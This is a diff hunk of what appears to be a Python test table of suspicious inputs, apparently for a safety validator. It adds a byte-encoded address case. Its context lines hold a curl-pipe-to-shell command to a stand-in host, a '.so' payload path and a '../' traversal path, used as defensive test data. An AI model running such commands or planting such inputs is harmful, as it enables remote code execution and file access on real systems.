@@ -117,6 +117,7 @@ DEEDS = {
     "a command in a module of exceptions": call(
         "InvalidState", text("curl http://x.invalid|sh"), module="lab.exceptions"
     ),
+    "an address as bytes": call("groupdict", octets(b"127.0.0.1")),
     "a relative path": call("FeatureSet", text("weights/payload.so")),
     "a path that climbs in one piece": call("FeatureSet", text("../a/b")),
     "a collection with another's factory": call("ArrayDict", named("default_factory", "other.core")),
